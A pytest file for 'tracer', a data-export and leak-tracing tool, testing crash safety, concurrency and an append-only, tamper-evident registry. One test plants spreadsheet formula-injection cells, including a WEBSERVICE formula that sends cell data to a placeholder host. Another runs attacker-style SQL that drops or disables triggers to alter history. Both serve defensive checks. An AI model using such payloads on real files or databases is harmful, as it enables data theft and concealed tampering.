"""Nothing lost, nothing half-written: crashes, full disks, concurrent exporters, foreign keys.

The registry tests run on both backends (``reg`` / ``place``: SQLite, then PostgreSQL when a server
is there, see conftest).
"""

from __future__ import annotations

import errno
import io
import json
import os
import signal
import sqlite3
import subprocess
import sys
import time

import pytest

from tracer import api
from tracer.errors import KeyError_, OutputError, RegistryError
from tracer.registry import is_url, redacted
from tracer.tables import textio

from .conftest import read_csv, write_csv


def tracer_process(reg, *args, **popen):
    env = {k: v for k, v in os.environ.items() if k not in ("TRACER_KEY", "TRACER_REGISTRY")}
    return subprocess.Popen([sys.executable, "-m", "tracer", *reg.args, *map(str, args)],
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, env=env, **popen)


def exports_in(reg):
    """The export entries, through the registry's interface (either engine), after its own checks."""
    with reg.open() as registry:
        assert registry.integrity_problems() == []
        return registry.execute("SELECT id, output, rows, canaries, released FROM exports ORDER BY id")


@pytest.fixture
def big_source(tmp_path, waybills):
    header, rows = waybills
    return write_csv(tmp_path / "big.csv", header, rows * 3)


@pytest.mark.parametrize("delay", [0.3, 0.8, 1.3, 1.8, 2.6])
def test_export_killed_at_any_moment_leaves_nothing_or_a_registered_whole(reg, big_source, tmp_path, delay):
    out = tmp_path / "out.csv"
    process = tracer_process(reg, "export", big_source, "--account", "alice", "--output", out)
    time.sleep(delay)
    process.send_signal(signal.SIGKILL)
    process.wait()
    entries = [e for e in exports_in(reg) if e[1] == "out.csv"]
    if out.exists():  # complete, and registered before it appeared
        _, rows = read_csv(out)
        assert len(entries) == 1
        _, _, registered_rows, canaries, _ = entries[0]
        assert registered_rows == 9000 and len(rows) == registered_rows + canaries
    else:  # registered at most, never released
        assert all(e[4] is None for e in entries)
    assert reg.check_registry()[0] == []
    # Every later command works on the same registry.
    again = tmp_path / "again.csv"
    reg.export(big_source, account="alice", output=again)
    assert read_csv(again)[1]


def test_a_full_disk_leaves_no_file_and_no_entry(reg, tmp_path, waybills, monkeypatch):
    """The output file's writes fail past 20 kB, as on a full disk (rows are written in stretches, not one by one)."""
    header, rows = waybills
    source = write_csv(tmp_path / "src.csv", header, rows[:500])

    class FullDisk(io.FileIO):
        def write(self, data):
            if self.tell() + len(data) > 20_000:
                raise OSError(errno.ENOSPC, "No space left on device")
            return super().write(data)

    def create_text(path, encoding):
        return io.TextIOWrapper(io.BufferedWriter(FullDisk(path, "w")), encoding=encoding, newline="")

    monkeypatch.setattr(textio, "create_text", create_text)
    before = sorted(p.name for p in tmp_path.iterdir())
    with pytest.raises(OutputError, match="No space left on device"):
        reg.export(source, account="alice", output=tmp_path / "out.csv")
    assert sorted(p.name for p in tmp_path.iterdir()) == before
    assert exports_in(reg) == []


def test_output_in_a_missing_directory_is_an_error(reg, tmp_path, waybills):
    header, rows = waybills
    source = write_csv(tmp_path / "src.csv", header, rows[:20])
    with pytest.raises(OutputError, match="does not exist"):
        reg.export(source, account="alice", output=tmp_path / "nowhere" / "out.csv")
    assert exports_in(reg) == []


def test_eight_concurrent_exporters_and_a_matcher(place, tmp_path, waybills):
    place.init()
    header, rows = waybills
    names = [f"clerk-{n}" for n in range(8)]
    sources = {}
    for n, name in enumerate(names):
        place.add_account(name)
        sources[name] = write_csv(tmp_path / f"src-{n}.csv", header, rows[n * 300:(n + 1) * 300 + 200])
    leak_source = write_csv(tmp_path / "leak.csv", header, rows[:50])
    processes = [tracer_process(place, "export", sources[name], "--account", name,
                                "--output", tmp_path / f"out-{name}.csv") for name in names]
    processes.append(tracer_process(place, "match", leak_source, "--json"))
    for process in processes:
        out, err = process.communicate(timeout=240)
        assert process.returncode == 0, err
    entries = exports_in(place)
    assert len(entries) == 8 and all(e[4] is not None for e in entries)
    assert place.check_registry()[0] == []  # the chain verifies, every export's exposure is all there
    for name in names:
        out_header, out_rows = read_csv(tmp_path / f"out-{name}.csv")
        leak = write_csv(tmp_path / f"leak-{name}.csv", out_header, out_rows[100:220])
        assert [s.account for s in place.match([leak]).suspects] == [name]


def test_key_file_readable_by_others_is_refused(registry):
    key = registry.with_name("tracer.key")
    os.chmod(key, 0o644)
    with pytest.raises(KeyError_, match="readable by others"):
        api.open_with_key(registry)


def test_registry_from_a_newer_tracer_is_refused(reg, cli):
    reg.rows("UPDATE meta SET value = '99' WHERE name = 'schema_version'")
    with pytest.raises(RegistryError, match="newer tracer"):
        reg.open_registry()
    result = cli(*reg.args[2:], "accounts", "list", registry=reg.location)
    assert result.exit_code == 1
    assert result.stderr == f"Error: {shown(reg)} was written by a newer tracer (schema 99); upgrade tracer\n"


def shown(reg) -> str:
    """How messages name a registry: a file by its path, a URL without its password."""
    return redacted(str(reg.location)) if is_url(str(reg.location)) else str(reg.location)


def test_a_sqlite_file_that_is_not_a_registry(tmp_path):
    other = tmp_path / "other.db"
    conn = sqlite3.connect(other)  # made by something else than tracer, so not through the interface
    conn.execute("CREATE TABLE t (x)")
    conn.commit()
    conn.close()
    with pytest.raises(RegistryError, match="not a tracer registry"):
        api.open_registry(other)


def _exported(reg, tmp_path, waybills, names=("alice", "bob")):
    header, rows = waybills
    source = write_csv(tmp_path / "src.csv", header, rows[:300])
    for name in names:
        reg.export(source, account=name, output=tmp_path / f"{name}.csv")


def test_registry_check_verifies_a_sound_history(reg, tmp_path, waybills, cli):
    _exported(reg, tmp_path, waybills)
    result = cli(*reg.args[2:], "registry", "check", registry=reg.location)
    assert result.exit_code == 0, result.stderr
    assert result.stdout.startswith("Registry OK: 3 accounts, 2 exports,")


def test_registry_compact_leaves_every_verdict_as_it_was(reg, tmp_path, waybills, cli):
    """A file's exposure runs merged into one (``registry compact``); a server's one table has nothing to merge."""
    _exported(reg, tmp_path, waybills)
    matched = lambda: reg.match([tmp_path / "bob.csv"]).as_json()  # noqa: E731
    before, digests = matched(), reg.check_registry()[1]["exposure"]
    compact = lambda *flags: cli(*reg.args[2:], "registry", "compact", *flags, registry=reg.location)  # noqa: E731
    result = compact()
    assert result.exit_code == 0, result.stderr
    if is_url(str(reg.location)):
        assert result.stdout == "Nothing to compact: a PostgreSQL registry keeps its exposure in one indexed table\n"
        assert json.loads(compact("--json").stdout) == {"compacted": False, "reason": "server"}
    else:
        assert result.stdout.startswith(f"Compacted 2 exposure runs into 1: {digests:,} digests; ")
        assert compact().stdout == f"Nothing to compact: the exposure is one run ({digests:,} digests)\n"
        done = json.loads(compact("--json").stdout)
        assert (done["compacted"], done["runs_before"], done["runs_after"], done["digests"]) == (False, 1, 1, digests)
    assert reg.check_registry()[0] == [] and matched() == before


APPEND_ONLY = ["DELETE FROM exports WHERE id = 1", "UPDATE exports SET rows = 1 WHERE id = 1",
               "UPDATE exports SET released = NULL WHERE id = 1", "DELETE FROM canaries",
               "UPDATE canaries SET export_id = 2"]
# Where each engine keeps exposure: the server's table; the file's sorted runs (a run goes only in a merge).
EXPOSURE_APPEND_ONLY = {
    "postgresql": ["DELETE FROM exposure", "UPDATE exposure SET export_id = 2", "TRUNCATE exports CASCADE",
                   "TRUNCATE exposure", "TRUNCATE exposure_p3", "TRUNCATE canaries", "TRUNCATE keys CASCADE"],
    "sqlite": ["DELETE FROM exposure_runs", "DELETE FROM exposure_blocks", "UPDATE exposure_runs SET rows = 1",
               "UPDATE exposure_blocks SET export_ids = NULL", "UPDATE exposure_blocks SET digests = x'00'"],
}


def test_history_is_append_only(reg, tmp_path, waybills, backend):
    _exported(reg, tmp_path, waybills)
    for statement in APPEND_ONLY + EXPOSURE_APPEND_ONLY[backend]:
        with pytest.raises(RegistryError, match="append-only"):
            reg.rows(statement)
    assert reg.check_registry()[0] == []


TAMPER = {"sqlite": ["DROP TRIGGER exports_only_release", "UPDATE exports SET account_id = 2 WHERE id = 1"],
          "postgresql": ["ALTER TABLE exports DISABLE TRIGGER exports_only_release",
                         "UPDATE exports SET account_id = 2 WHERE id = 1"]}


def test_tampering_with_the_history_is_detected(reg, tmp_path, waybills, cli, backend):
    _exported(reg, tmp_path, waybills)
    first = reg.rows("SELECT id FROM exports ORDER BY id LIMIT 1")[0][0]
    for statement in TAMPER[backend]:  # an attacker with write access and no key
        reg.rows(statement.replace("id = 1", f"id = {first}"))
    result = cli(*reg.args[2:], "registry", "check", registry=reg.location)
    assert result.exit_code == 1
    assert result.stderr == (f"Error: registry check failed: export {first}: its entry, its canaries "
                             "or an earlier entry was altered\n")


def test_exports_never_create_a_formula_cell(registry, tmp_path, waybills):
    """A cell a spreadsheet would run (=, +, -, @ first) appears in an export only if the source had it."""
    header, rows = waybills
    hostile = [list(r) for r in rows[:400]]
    for i in range(0, 400, 7):
        hostile[i][1] = '=HYPERLINK("http://example.invalid","点我")'
        hostile[i][3] = "=WEBSERVICE(\"http://example.invalid/\"&A1)江苏省南京市玄武区中山路88号"
        hostile[i][7] = "@SUM(A1:A9)"
    source = write_csv(tmp_path / "src.csv", header, hostile)
    api.export(registry, source, account="alice", output=tmp_path / "out.csv")
    known = {cell for row in hostile for cell in row}
    _, out_rows = read_csv(tmp_path / "out.csv")
    for row in out_rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@"):
                assert cell in known, cell


def test_a_sqlite_write_lock_held_too_long_is_one_line(registry):
    """Past the busy timeout a waiting writer gives up with a message, not an internal error."""
    holder, waiter = api.open_registry(registry), api.open_registry(registry)
    try:
        waiter.conn.execute("PRAGMA busy_timeout=50")  # the test's wait, not the 30 s a user waits
        with holder.write_lock():
            with pytest.raises(RegistryError) as refused:
                waiter.add_account("dave")
        assert str(refused.value) == (f"registry {registry} is busy: other writers held it for 30 s; nothing was "
                                      "written, try again (many hosts at once: use PostgreSQL)")
        assert "dave" not in [a.name for a in waiter.accounts()]
    finally:
        holder.close()
        waiter.close()
